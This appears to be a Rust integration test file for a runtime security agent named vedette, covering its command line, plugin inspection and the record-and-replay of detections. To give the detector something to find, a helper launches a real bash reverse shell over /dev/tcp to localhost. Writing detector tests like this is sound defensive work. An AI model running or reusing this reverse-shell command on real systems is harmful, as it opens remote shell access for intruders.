//! The command line: what it says, what it refuses, what it leaves behind.

use std::{
    fs,
    os::unix::fs::PermissionsExt,
    path::Path,
    process::{Command, Output, Stdio},
};
use tempfile::TempDir;
use vedette_tests::{
    agent::{Agent, PATIENCE, command, own_name},
    listener::Wire,
    need::Need,
    process::{kill, wait_for},
    recording::Recording,
    remote_shell::RemoteShell,
    require,
    tools::{Names, Place},
    workspace,
};

fn run(arguments: &[&str]) -> Output {
    let output = command(arguments).output().expect("the agent is built");
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(!errors.contains("panicked"), "{arguments:?}: {errors}");
    output
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn shell_on_the_host() -> RemoteShell {
    RemoteShell::start(Place::Host, Names::Own, Wire::Clear, |tools, port| {
        let bash = tools.get("bash");
        format!("{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
    })
}

#[test]
fn every_command_explains_itself() {
    require!(Need::Agent);
    let help = run(&["--help"]);
    assert!(help.status.success());
    for name in [
        "run", "replay", "record", "events", "doctor", "sensor", "plugin",
    ] {
        assert!(stdout(&help).contains(name), "the overview names {name}");
        let own = run(&[name, "--help"]);
        assert!(
            own.status.success() && stdout(&own).contains("Usage"),
            "{name} --help"
        );
    }
    for name in ["build", "inspect"] {
        let own = run(&["plugin", name, "--help"]);
        assert!(
            own.status.success() && stdout(&own).contains("Usage"),
            "plugin {name} --help"
        );
    }
    assert!(stdout(&run(&["--version"])).contains(env!("CARGO_PKG_VERSION")));
}

#[test]
fn bad_arguments_are_named() {
    require!(Need::Agent);
    for (arguments, culprit) in [
        (&["walk"][..], "walk"),
        (&["run", "--enforced"], "--enforced"),
        (&["run", "--workers", "many"], "many"),
        (&["replay"], "FILE"),
        (&["replay", "x", "--event-time", "0"], "above 0"),
        (&["events", "--kind", "exce"], "exce"),
        (&["record", "x", "--duration", "long"], "long"),
        (&["plugin", "bake"], "bake"),
    ] {
        let output = run(arguments);
        assert_eq!(output.status.code(), Some(2), "{arguments:?}");
        assert!(
            stderr(&output).contains(culprit),
            "{arguments:?}: {}",
            stderr(&output)
        );
        assert!(
            stdout(&output).is_empty(),
            "{arguments:?} says nothing on standard output"
        );
    }
}

#[test]
fn files_that_are_missing_or_damaged_are_named() {
    require!(Need::Agent);
    let directory = TempDir::with_prefix("vedette-files-").expect("a temporary directory");
    let file = |name: &str, bytes: &[u8]| {
        let path = directory.path().join(name).display().to_string();
        fs::write(&path, bytes).expect("an own directory");
        path
    };
    let missing = directory.path().join("missing").display().to_string();
    let empty = file("empty", b"");
    let garbage = file("garbage", workspace::random_hex(4096).as_bytes());
    let folder = directory.path().display().to_string();
    for path in [&missing, &empty, &garbage, &folder] {
        for command in [
            &["replay"][..],
            &["plugin", "inspect"],
            &["plugin", "build"],
        ] {
            let output = run(&[command, &[path.as_str()]].concat());
            assert!(!output.status.success(), "{command:?} {path}");
            assert!(
                stderr(&output).contains(path.as_str()),
                "{command:?} {path}: {}",
                stderr(&output)
            );
        }
    }
    let output = run(&["run", "--instance", &own_name(), "--never", &missing]);
    assert!(!output.status.success());
}

#[test]
fn plugins_can_be_looked_into() {
    require!(Need::Agent);
    for name in ["reverse-shell", "escape", "miner"] {
        let path = workspace::plugins()
            .join(name)
            .with_extension("wasm")
            .display()
            .to_string();
        let shown = run(&["plugin", "inspect", &path]);
        assert!(shown.status.success(), "{}", stderr(&shown));
        assert!(stdout(&shown).contains(name), "{}", stdout(&shown));
        let json = run(&["plugin", "inspect", "--json", &path]);
        serde_json::from_slice::<serde_json::Value>(&json.stdout).expect("it is JSON");
    }
}

#[test]
fn what_the_kernel_is_asked_for_is_explained() {
    require!(Need::Agent);
    let plugins = workspace::plugins().display().to_string();
    let text = run(&["sensor", "explain", "--plugins", &plugins]);
    assert!(text.status.success(), "{}", stderr(&text));
    for words in [
        "context: all of them",
        "\"release_agent\"",
        "may be in a container",
    ] {
        assert!(stdout(&text).contains(words), "{words}: {}", stdout(&text));
    }
    let json = run(&["sensor", "explain", "--json", "--plugins", &plugins]);
    let json: serde_json::Value = serde_json::from_slice(&json.stdout).expect("it is JSON");
    let kinds = json["kinds"].as_array().expect("a list");
    let open = kinds
        .iter()
        .find(|k| k["kind"] == "open")
        .expect("bundled plugins want it");
    let by: Vec<_> = open["wanted-by"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|w| &w["by"])
        .collect();
    assert!(by.iter().any(|by| **by == "escape") && by.iter().any(|by| **by == "miner"));
    assert!(
        open["passes"]
            .as_array()
            .is_some_and(|lines| lines.len() >= 4)
    );
    let missing = run(&["sensor", "explain", "--plugins", "/nonexistent"]);
    assert!(
        stderr(&missing).contains("/nonexistent"),
        "{}",
        stderr(&missing)
    );
}

#[test]
fn the_doctor_says_what_the_kernel_offers() {
    require!(Need::Agent, Need::Kernel);
    let output = run(&["doctor"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        stdout(&output).to_lowercase().contains("btf"),
        "{}",
        stdout(&output)
    );
}

/// What was recorded gives the same findings later, also to somebody who is not root, and every
/// time the same.
#[test]
fn a_record_replays() {
    require!(Need::Agent, Need::Kernel, Need::Tool("setpriv"));
    let _alone = workspace::alone();
    let recording = Recording::default();
    let capture = recording.path();
    let agent = recording.agent();
    let running = shell_on_the_host();
    let root = running.root();
    let live = agent.expect("a reverse shell", |finding| {
        finding.ancestors().contains(&root)
    });
    drop(running);
    recording.finds_the_same(&agent.stop());

    let unprivileged = Unprivileged::new();
    fs::copy(&capture, unprivileged.path("capture")).expect("an own directory");
    // A capture is its owner's alone; who is given one owns the copy.
    let owner = Some(Unprivileged::ID);
    std::os::unix::fs::chown(unprivileged.path("capture"), owner, owner).expect("root may");
    let replayed = unprivileged.run(&["replay", "capture", "--plugins", "plugins", "--json"]);
    assert!(replayed.status.success(), "{}", stderr(&replayed));
    let again = unprivileged.run(&["replay", "capture", "--plugins", "plugins", "--json"]);
    assert_eq!(
        stdout(&replayed),
        stdout(&again),
        "a replay is the same every time"
    );
    for batch in ["1", "7"] {
        let other = unprivileged.run(&[
            "replay",
            "capture",
            "--plugins",
            "plugins",
            "--json",
            "--batch",
            batch,
        ]);
        assert_eq!(
            stdout(&replayed),
            stdout(&other),
            "with batches of {batch} too"
        );
    }
    let found: Vec<serde_json::Value> = stdout(&replayed)
        .lines()
        .map(|line| serde_json::from_str(line).expect("JSON lines"))
        .collect();
    let ours = found
        .iter()
        .find(|finding| finding["category"] == "reverse-shell")
        .expect("the shell is found again");
    assert_eq!(ours["process"], live.json["process"]);
    assert_eq!(ours["id"], live.json["id"]);

    // Half of it is read as far as it goes, and it is said that it is half.
    let whole = fs::read(&capture).expect("it was recorded");
    fs::write(unprivileged.path("half"), &whole[..whole.len() / 2]).expect("an own directory");
    let half = unprivileged.run(&["replay", "half", "--plugins", "plugins", "--json"]);
    assert!(!stderr(&half).contains("panicked"), "{}", stderr(&half));
    assert!(
        !half.status.success() && stderr(&half).contains("half"),
        "{}",
        stderr(&half)
    );
}

#[test]
fn without_root_an_attack_is_replayed() {
    require!(Need::Agent, Need::Root, Need::Tool("setpriv"));
    let unprivileged = Unprivileged::new();
    let output = unprivileged.run(&["run", "--plugins", "plugins", "--json"]);
    let errors = stderr(&output);
    assert!(output.status.success(), "{errors}");
    assert!(errors.contains("root"), "it says what is missing: {errors}");
    assert!(
        errors.to_lowercase().contains("replay"),
        "it says that it is a replay: {errors}"
    );
    assert!(
        stdout(&output).contains("\"reverse-shell\""),
        "{}",
        stdout(&output)
    );
    for line in stdout(&output).lines() {
        serde_json::from_str::<serde_json::Value>(line).expect("JSON lines");
    }
}

#[test]
fn a_run_ends_with_a_summary_and_leaves_nothing() {
    require!(Need::Agent, Need::Kernel);
    let _alone = workspace::alone();
    for _ in 0..2 {
        let agent = Agent::observing();
        let running = shell_on_the_host();
        let root = running.root();
        agent.expect("a reverse shell", |finding| {
            finding.ancestors().contains(&root)
        });
        drop(running);
        let ready = agent.ready_after();
        let stopped = agent.stop();
        println!("ready after {ready:?}");
        let summary = stopped.summary();
        assert!(summary["findings"].as_u64() > Some(0), "{summary:#}");
        assert!(summary["events"]["exec"].as_u64() > Some(0), "{summary:#}");
        assert!(summary["lost"].is_object(), "{summary:#}");
        assert!(
            summary["plugins"]["reverse-shell"]["call_ns"].as_u64() > Some(0),
            "{summary:#}"
        );
    }
}

#[test]
fn a_second_agent_is_told_which_one_runs_and_what_to_do() {
    require!(Need::Agent, Need::Kernel);
    let _alone = workspace::alone();
    let agent = Agent::observing();
    let second = run(&["run", "--instance", agent.name(), "--plugins", "/nowhere"]);
    assert_eq!(second.status.code(), Some(1));
    let said = stderr(&second);
    let pid = agent.pid();
    assert!(
        said.contains(&format!("runs already as pid {pid}")) && said.contains("--instance"),
        "{said}"
    );
    agent.stop();
}

#[test]
fn a_second_interrupt_or_a_closed_pipe_ends_it_too() {
    require!(Need::Agent, Need::Kernel);
    let _alone = workspace::alone();
    let directory = TempDir::with_prefix("vedette-pipe-").expect("a temporary directory");
    let ready = directory.path().join("ready");
    let mut child = command(["run", "--json", "--instance", &own_name(), "--plugins"])
        .arg(workspace::plugins())
        .arg("--ready-file")
        .arg(&ready)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("the agent is built");
    drop(child.stdout.take());
    assert!(
        wait_for(PATIENCE, || ready.exists().then_some(())).is_some(),
        "it gets ready"
    );
    // Nobody reads what it finds; it must bear that.
    let running = shell_on_the_host();
    assert!(running.shell(PATIENCE).is_some(), "the shell works");
    drop(running);
    kill(child.id(), rustix::process::Signal::TERM);
    let status = wait_for(PATIENCE, || child.try_wait().expect("it is our child"));
    if status.is_none() {
        let _ = child.kill();
        let _ = child.wait();
    }
    assert!(
        status.is_some_and(|status| status.success()),
        "it ends: {status:?}"
    );
}

/// The agent, its plugins and a directory that nobody may read and write.
struct Unprivileged {
    directory: TempDir,
}

impl Unprivileged {
    /// User and group.
    const ID: u32 = 65534;

    fn new() -> Self {
        let directory = TempDir::with_prefix("vedette-nobody-").expect("a temporary directory");
        let own = Self { directory };
        fs::copy(workspace::vedette(), own.path("vedette")).expect("the agent is built");
        fs::create_dir(own.path("plugins")).expect("an own directory");
        for path in fs::read_dir(workspace::plugins())
            .expect("the plugins are built")
            .flatten()
            .map(|entry| entry.path())
        {
            if path.is_file() {
                let name = path.file_name().unwrap_or_default();
                fs::copy(&path, own.path("plugins").join(name)).expect("an own directory");
            }
        }
        fs::set_permissions(own.directory.path(), fs::Permissions::from_mode(0o755))
            .expect("an own directory");
        own
    }

    fn path(&self, name: &str) -> std::path::PathBuf {
        self.directory.path().join(name)
    }

    fn run(&self, arguments: &[&str]) -> Output {
        let output = Command::new("setpriv")
            .arg(format!("--reuid={}", Self::ID))
            .arg(format!("--regid={}", Self::ID))
            .arg("--clear-groups")
            .arg(self.path("vedette"))
            .args(arguments)
            .current_dir(Path::new(self.directory.path()))
            .env("VEDETTE_CACHE", self.path("cache"))
            .stdin(Stdio::null())
            .output()
            .expect("setpriv is installed");
        assert!(
            !stderr(&output).contains("panicked"),
            "{arguments:?}: {}",
            stderr(&output)
        );
        output
    }
}
